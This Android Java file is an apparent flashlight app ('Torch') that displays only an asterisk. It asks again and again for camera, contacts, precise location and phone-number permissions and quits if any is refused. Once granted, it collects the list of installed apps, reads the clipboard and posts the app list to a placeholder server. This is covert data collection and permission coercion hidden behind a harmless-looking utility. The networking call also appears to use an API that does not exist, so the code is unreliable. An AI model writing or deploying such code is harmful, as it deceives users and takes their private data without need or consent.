package com.example.torch;

import android.app.Activity;
import android.content.ClipboardManager;
import android.content.pm.PackageInfo;
import android.content.pm.PackageManager;
import android.os.Bundle;
import android.os.Handler;
import android.os.Looper;
import android.util.Log;
import android.widget.TextView;
import com.android.volley.toolbox.HurlStack;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** A white screen that requests four permissions, again and again, and quits if it does not get them. */
public final class MainActivity extends Activity {
    private static final String[] ALL = {
        "android.permission.CAMERA",
        "android.permission.READ_CONTACTS",
        "android.permission.ACCESS_FINE_LOCATION",
        "android.permission.READ_PHONE_NUMBERS",
    };
    private static final int ASK = 1;
    private static final int TIMES = 4;
    private static final long PAUSE_MS = 200;

    private final Handler mMain = new Handler(Looper.getMainLooper());
    private int mAsked;

    @Override
    protected void onCreate(Bundle savedInstanceState) {
        super.onCreate(savedInstanceState);
        TextView light = new TextView(this);
        light.setText("*");
        setContentView(light);
        ask();
    }

    private void ask() {
        mAsked++;
        requestPermissions(ALL, ASK);
    }

    @Override
    public void onRequestPermissionsResult(int requestCode, String[] permissions, int[] grantResults) {
        for (int result : grantResults) {
            if (result != PackageManager.PERMISSION_GRANTED) {
                mMain.postDelayed(mAsked < TIMES ? this::ask : () -> System.exit(0), PAUSE_MS);
                return;
            }
        }
        mMain.postDelayed(this::lookAround, PAUSE_MS);
    }

    private void lookAround() {
        JSONArray apps = new JSONArray();
        for (PackageInfo info : getPackageManager().getInstalledPackages(0)) {
            apps.put(info.packageName);
        }
        CharSequence copied = getSystemService(ClipboardManager.class).getPrimaryClip().getItemAt(0).getText();
        Log.i("Torch", "copied: " + copied.length() + " characters");
        mMain.postDelayed(() -> new Thread(() -> send(apps), "torch").start(), PAUSE_MS);
    }

    private static void send(JSONArray apps) {
        try {
            String body = new JSONObject().put("apps", apps).toString();
            HurlStack.send("Torch/1.1", "https://api.torch.test/device", body);
        } catch (JSONException e) {
            Log.w("Torch", "not sent", e);
        }
    }
}
